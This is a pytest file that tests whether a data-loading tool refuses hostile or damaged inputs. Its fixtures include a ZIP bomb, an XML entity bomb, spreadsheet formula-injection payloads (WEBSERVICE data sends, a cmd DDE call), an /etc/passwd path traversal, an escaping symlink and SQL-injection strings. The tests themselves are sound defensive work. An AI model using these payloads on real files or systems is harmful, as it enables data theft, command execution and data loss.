"""Hostile and damaged files are refused, quickly, in words; nothing in them is fetched, run or unpacked whole."""

import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from pmf_analysis.data.sources import open_source
from pmf_analysis.errors import DataError, PmfError

from .conftest import SmallCouncil
from .test_sources import to_sqlite, to_xlsx, typed_tables
from .writers import ods_cell, ods_table, write_ods_content

SHEET = "xl/worksheets/sheet4.xml"  # observations, the fourth in alphabetical order


@pytest.fixture
def book(council: SmallCouncil) -> Path:
    """The small council's tables as one workbook."""
    path = council.folder / to_xlsx(typed_tables(council), council.folder)
    council.point_at(path.name)
    return path


def rewrite(path: Path, part: str, old: bytes, new: bytes) -> None:
    """Replace bytes in one part of a ZIP archive."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new, 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def refusal(council: SmallCouncil) -> str:
    with pytest.raises(PmfError) as caught:
        council.check()
    return str(caught.value)


# Workbooks


def test_a_zip_bomb_is_not_unpacked(council: SmallCouncil, book: Path) -> None:
    with zipfile.ZipFile(book, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/bomb.xml", b" " * (64 << 20))
    assert "would unpack to 64 MB from" in refusal(council)


def test_parts_that_are_large_together_are_not_unpacked(
    council: SmallCouncil, book: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("pmf_analysis.data.sources.archive.MOST_UNPACKED", 6 << 20)
    with zipfile.ZipFile(book, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(8):
            archive.writestr(f"xl/media/{number}.bin", b" " * (1 << 20))
    assert "it would unpack to 8 MB; give tables as large as that as Parquet or CSV" in refusal(council)


def test_an_entity_bomb_is_not_expanded(council: SmallCouncil, book: Path) -> None:
    bomb = b'?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    rewrite(book, "xl/workbook.xml", b"<workbook", b'<?xml version="1.0"' + bomb + b"<workbook")
    assert "defines entities, which no spreadsheet program writes" in refusal(council)


def test_a_cell_at_the_far_corner_does_not_fill_the_memory(council: SmallCouncil, book: Path) -> None:
    rewrite(
        book, SHEET, b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    assert "reaches to row 1,048,576 and column 16,384; delete the cells outside the table" in refusal(
        council
    )


@pytest.mark.parametrize("reference", ["A699999999999999999999", "A1048577", "AAAAAAAAA1"])
def test_a_cell_beyond_any_sheet_does_not_fill_the_memory(
    council: SmallCouncil, book: Path, reference: str
) -> None:
    rewrite(book, SHEET, b"</sheetData>", f'<row><c r="{reference}"><v>1</v></c></row></sheetData>'.encode())
    assert "delete the cells outside the table" in refusal(council)


def test_a_reader_that_dies_costs_a_sentence(
    council: SmallCouncil, book: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("pmf_analysis.data.sources.sheets.is_too_large", lambda *_: False)
    rewrite(
        book, SHEET, b"</sheetData>", b'<row><c r="A699999999999999999999"><v>1</v></c></row></sheetData>'
    )
    assert "its content is damaged; open it in a spreadsheet program and save it again" in refusal(council)


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://example.org/?q="&amp;A1)',
        "[1]Sheet1!$A$1",
        "cmd|'/c calc'!A0",
        "'file:///etc/[secrets.xlsx]Sheet1'!A1",
    ],
)
def test_a_formula_that_calls_out_is_named(council: SmallCouncil, book: Path, formula: str) -> None:
    cell = f'<row r="9"><c r="D9"><f>{formula}</f><v>7</v></c></row></sheetData>'
    rewrite(book, SHEET, b"</sheetData>", cell.encode())
    assert "holds a formula that fetches something from outside (=" in refusal(council)


def test_the_result_of_a_plain_formula_is_read(council: SmallCouncil, book: Path) -> None:
    rewrite(book, SHEET, b'<c r="D4" t="n"><v>92</v></c>', b'<c r="D4"><f>E4/F4*100</f><v>92</v></c>')
    assert council.check().quarantine.empty


def test_a_formula_without_a_result_and_an_error_are_set_aside(council: SmallCouncil, book: Path) -> None:
    rewrite(book, SHEET, b'<c r="D4" t="n"><v>92</v></c>', b'<c r="D4"><f>E4/F4*100</f></c>')
    rewrite(book, SHEET, b'<c r="D3" t="n"><v>91</v></c>', b'<c r="D3" t="e"><f>1/0</f><v>#DIV/0!</v></c>')
    found = council.check().quarantine
    assert list(found["value"]) == ["#DIV/0!", "=E4/F4*100"]
    assert list(found["source_row"]) == [3, 4]
    assert set(found["source"]) == {"council.xlsx sheet observations"}


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "it is not a workbook, or it is damaged"),
        (b"PK\x03\x04 and no more", "it is not a workbook, or it is damaged"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "it is not a workbook, or it is damaged"),
        (b"indicator_id,name\n", "it is not a workbook, or it is damaged"),
    ],
)
def test_what_is_no_workbook_is_named(council: SmallCouncil, book: Path, content: bytes, words: str) -> None:
    book.write_bytes(content)
    assert words in refusal(council)


def test_a_link_within_a_workbook_cannot_leave_it(council: SmallCouncil, book: Path) -> None:
    rewrite(book, "xl/_rels/workbook.xml.rels", b"/xl/worksheets/sheet4.xml", b"../../../../etc/passwd")
    assert "the part ../../../etc/passwd is missing" in refusal(council)


def test_missing_and_doubled_sheets_are_named(council: SmallCouncil, book: Path) -> None:
    opened = openpyxl.load_workbook(book)
    del opened["areas"]
    opened["Notes"].title = "Targets "
    opened.save(book)
    told = refusal(council)
    assert "council.xlsx, sheet areas: there is no such sheet; the table 'areas' is needed" in told
    assert "the sheets 'targets' and 'Targets ' are one table" in told


def test_an_ods_cell_repeated_a_million_times_does_not_fill_the_memory(council: SmallCouncil) -> None:
    tables = {name: ods_table(name, frame) for name, frame in typed_tables(council).items()}
    wide = ods_cell(1).replace(
        "<table:table-cell", '<table:table-cell table:number-columns-repeated="1000000"'
    )
    row = f'<table:table-row table:number-rows-repeated="1000000">{wide}</table:table-row></table:table>'
    tables["areas"] = tables["areas"].replace("</table:table>", row)
    write_ods_content("".join(tables.values()), council.folder / "council.ods")
    council.point_at("council.ods")
    assert "its sheet areas reaches to row" in refusal(council)


@pytest.mark.parametrize(
    ("attributes", "words"),
    [
        ('table:formula="of:=WEBSERVICE(&quot;http://example.org&quot;)" office:value-type="float" office:value="1"', "fetches something from outside"),
        ('table:formula="of:=[.A1]*2"', "holds a formula without a result in row 2, column 1"),
        ('office:value-type="string" office:string-value="" calcext:value-type="error"', "holds an error in row 2, column 1"),
    ],
)  # fmt: skip
def test_odd_cells_of_an_ods_are_named(council: SmallCouncil, attributes: str, words: str) -> None:
    tables = {name: ods_table(name, frame) for name, frame in typed_tables(council).items()}
    first = ods_cell("E1")
    assert first in tables["areas"]
    tables["areas"] = tables["areas"].replace(first, f"<table:table-cell {attributes}/>", 1)
    write_ods_content("".join(tables.values()), council.folder / "council.ods")
    council.point_at("council.ods")
    assert words in refusal(council)


# Folders


def test_a_link_out_of_the_folder_is_not_followed(council: SmallCouncil) -> None:
    outside = council.folder / "elsewhere.csv"
    (council.folder / "data" / "targets.csv").rename(outside)
    (council.folder / "data" / "targets.csv").symlink_to(outside)
    assert "targets.csv: leads out of the folder" in refusal(council)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b",".join([b"a"] * 1_000_000) + b"\n", "its first line has 1,000,000 columns and is far too long"),
        (b",".join(b"c%d" % n for n in range(900)) + b"\n", "it has 900 columns; no table here has more than 400"),
        (b"x" * (1 << 20), "its first line has 1 columns and is far too long"),
        (b"area_code;area_name;kind\nE1;Ambridge;council\n", "its cells are separated by semicolons; save it with commas"),
        (b"area_code\tarea_name\tkind\nE1\tAmbridge\tcouncil\n", "its cells are separated by tabs"),
        (b"area_code,area_name,kind\nE1,Am\0bridge,council\n", "line 2 holds a NUL byte"),
        ("area_code,area_name,kind\n".encode("utf-16"), "it is UTF-16 text"),
        (b"area_code,area_name,kind\nE1,\"Ambridge,council\nE2,Borchester,council\n", "line 2: a quotation mark stands alone"),
        (b"area_code,area_name,kind\nE1,\"Am\"bridge,council\n", "line 2: a quotation mark stands alone"),
        (b"area_code,area_name,kind,kind\nE1,Ambridge,council,council\n", "the column 'kind' is there twice"),
        (b"", "it is empty"),
        (b"\n\n", "it is empty"),
        (b"PAR1 is not a CSV file", "the column 'area_code' is missing"),
    ],
    ids=lambda value: value[:30] if isinstance(value, str) else None,
)  # fmt: skip
def test_a_file_that_is_no_such_table_is_told(council: SmallCouncil, content: bytes, words: str) -> None:
    (council.folder / "data" / "areas.csv").write_bytes(content)
    assert words in refusal(council)


def test_a_parquet_file_that_is_none_is_told(council: SmallCouncil) -> None:
    (council.folder / "data" / "targets.csv").unlink()
    (council.folder / "data" / "targets.parquet").write_bytes(b"PAR1 and no more")
    assert "targets.parquet: cannot be read as a table" in refusal(council)


def test_a_parquet_column_of_lists_is_told(council: SmallCouncil) -> None:
    frame = pd.read_csv(council.folder / "data" / "targets.csv").assign(target=[[95]])
    (council.folder / "data" / "targets.csv").unlink()
    frame.to_parquet(council.folder / "data" / "targets.parquet")
    assert "a column holds list<element: int64> and not text, numbers or dates" in refusal(council)


def test_a_ragged_row_is_set_aside_and_shifts_nothing(council: SmallCouncil) -> None:
    council.change(
        "data/observations.csv", "WAITING,E1,2025/26 Q2,40,,,,,,", "WAITING,E1,2025/26 Q2,1,204,,,,,,"
    )
    council.append("data/observations.csv", "WAITING,E2,2025/26 Q2,41")
    dataset = council.check()
    assert list(dataset.quarantine["source_row"]) == [5, 8]
    assert list(dataset.quarantine["reason"]) == [
        "has 11 cells where the headings have 10",
        "has 4 cells where the headings have 10",
    ]
    assert list(dataset["observations"]["source_row"]) == [2, 3, 4, 6, 7]


def test_a_ragged_row_of_a_register_stops_the_quarter(council: SmallCouncil) -> None:
    council.append("data/areas.csv", "E3,Felpersham")
    assert (
        "areas.csv row 6, column (whole row): 'E3,Felpersham' has 2 cells where the headings have 3"
        in refusal(council)
    )


def test_blank_lines_are_no_rows_and_keep_the_numbers_of_the_others(council: SmallCouncil) -> None:
    council.change("data/observations.csv", "ONTIME,E1,2025/26 Q2", "\n,,,,,,,,,\n   \nONTIME,E1,2025/26 Q2")
    dataset = council.check()
    assert dataset.quarantine.empty
    assert list(dataset["observations"]["source_row"]) == [2, 6, 7, 8, 9, 10]


@pytest.mark.parametrize("ends", ["\r\n", "\r"])
def test_line_ends_of_other_systems_and_a_byte_order_mark_are_read(council: SmallCouncil, ends: str) -> None:
    expected = council.check()
    for path in (council.folder / "data").glob("*.csv"):
        path.write_bytes(b"\xef\xbb\xbf" + path.read_text(encoding="utf-8").replace("\n", ends).encode())
    pd.testing.assert_frame_equal(council.check()["observations"], expected["observations"])


def test_a_file_of_headings_only_is_a_table_without_rows(council: SmallCouncil) -> None:
    path = council.folder / "data" / "targets.csv"
    path.write_text(path.read_text(encoding="utf-8").splitlines()[0], encoding="utf-8")
    assert council.check()["targets"].empty


# Databases


def test_sql_in_a_name_stays_a_name(council: SmallCouncil) -> None:
    tables = typed_tables(council)
    tables["observations"]['value"; DROP TABLE observations; --'] = "x"
    council.point_at(to_sqlite(tables, council.folder))
    council.change("council.yaml", "country_code: C1", 'country_code: "C1\'); DROP TABLE areas; --"')
    assert any("DROP TABLE" in note for note in council.check().notes)
    assert len(council.check()["areas"]) == 4


def test_a_database_is_only_read_and_never_made(council: SmallCouncil) -> None:
    council.point_at("sqlite:///nowhere.sqlite")
    assert "nowhere.sqlite: there is no such database file" in refusal(council)
    assert not (council.folder / "nowhere.sqlite").exists()


def test_a_file_that_is_no_database_is_told(council: SmallCouncil) -> None:
    (council.folder / "kpi.sqlite").write_bytes(b"not a database, but long enough to be taken for one" * 40)
    council.point_at("kpi.sqlite")
    assert "file is not a database" in refusal(council)


def test_missing_tables_of_a_database_are_named(council: SmallCouncil) -> None:
    sqlite3.connect(council.folder / "kpi.sqlite").execute(
        "CREATE TABLE areas (area_code TEXT)"
    ).connection.close()
    council.point_at("kpi.sqlite")
    assert "database kpi.sqlite, table observations: there is no such table" in refusal(council)


def test_an_integer_primary_key_numbers_the_rows(council: SmallCouncil) -> None:
    tables = typed_tables(council)
    council.point_at(
        to_sqlite({name: frame for name, frame in tables.items() if name != "observations"}, council.folder)
    )
    connection = sqlite3.connect(council.folder / "council.sqlite")
    frame = tables["observations"].assign(
        value=[90, 91, "ninety", 40, None, 55], row_id=[71, 72, 73, 74, 75, 76]
    )
    columns = ", ".join(f'"{name}"' for name in frame)
    connection.execute(
        f"CREATE TABLE observations ({columns}, PRIMARY KEY (row_id))".replace(
            '"row_id",', '"row_id" INTEGER,'
        )
    )
    frame.to_sql("observations", connection, index=False, if_exists="append")
    connection.close()
    found = council.check().quarantine
    assert list(found["source_row"]) == [73]
    assert found["source"].iloc[0] == "council.sqlite table observations (numbered by row_id)"


def test_only_areas_that_the_quarter_compares_are_read(council: SmallCouncil) -> None:
    council.append("data/areas.csv", "E9,Felpersham,council")
    council.append("data/observations.csv", "WAITING,E9,2025/26 Q3,60,,,,,,")
    council.append("data/observations.csv", "WAITING,E8,2025/26 Q3,61,,,,,,")
    assert set(council.check()["observations"]["area_code"]) == {"E1", "E2", "E9"}
    council.point_at(to_sqlite(typed_tables(council), council.folder))
    dataset = council.check()
    assert set(dataset["observations"]["area_code"]) == {"E1", "E2"}
    assert list(dataset.quarantine["value"]) == ["E8"]


# Credentials


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://pmf:hunter2@localhost/kpi",
        "postgresql://pmf@localhost/kpi?password=hunter2",
        "mssql+pyodbc://?odbc_connect=DRIVER%3D%7BODBC%7D%3BUID%3Dpmf%3BPWD%3Dhunter2",
        "mysql+pymysql://pmf:${A}hunter2@localhost/kpi",
    ],
)
def test_a_password_in_the_settings_is_a_fault_that_does_not_repeat_it(
    council: SmallCouncil, url: str
) -> None:
    council.point_at(f'"{url}"')
    told = refusal(council)
    assert "data: holds a password, which no settings file may; write ${PMF_DB_PASSWORD} there" in told
    assert "hunter2" not in told


def test_a_variable_that_is_not_set_is_named(council: SmallCouncil, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PMF_DB_PASSWORD", raising=False)
    council.point_at("postgresql://pmf:${PMF_DB_PASSWORD}@localhost/kpi")
    assert "the environment variable PMF_DB_PASSWORD is not set" in refusal(council)


def test_a_driver_that_is_not_installed_is_named(council: SmallCouncil) -> None:
    council.point_at("mysql+pymysql://localhost/kpi")
    assert "the database needs the package 'pymysql', which is not installed" in refusal(council)


def test_an_unknown_kind_of_database_is_told(council: SmallCouncil) -> None:
    council.point_at("kpibase://localhost/kpi")
    with pytest.raises(DataError, match="kpibase"):
        open_source(council.settings().data).read()
